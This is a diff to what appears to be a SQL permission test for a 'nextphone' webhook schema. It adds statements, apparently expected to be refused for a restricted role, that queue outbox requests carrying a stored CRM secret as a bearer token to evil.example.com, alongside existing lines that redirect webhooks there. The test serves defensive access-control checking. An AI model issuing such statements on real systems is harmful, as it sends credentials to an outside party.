@@ -53,6 +53,12 @@ SELECT nextphone.create_webhook('{"type": "http", "tool_name": "x", "http_method
 SELECT nextphone.update_webhook('rolesCRM', '{"url": "https://evil.example.com/"}');
 SELECT nextphone.set_secret('crm_key', 'stolen');
 UPDATE nextphone.webhooks SET url = 'https://evil.example.com/';
+-- nor send a webhook's request (signed, with its secrets) somewhere else
+INSERT INTO nextphone.outbox (webhook, url, headers)
+VALUES ('rolesCRM', 'https://evil.example.com/', '{"Authorization": "Bearer {{secret.crm_key}}"}');
+-- nor an ad-hoc request with a secret
+INSERT INTO nextphone.outbox (url, headers)
+VALUES ('https://evil.example.com/', '{"Authorization": "Bearer {{secret.crm_key}}"}');
 RESET ROLE;
 
 -- Its inserts fired the signed webhook, the secret left as a tag.
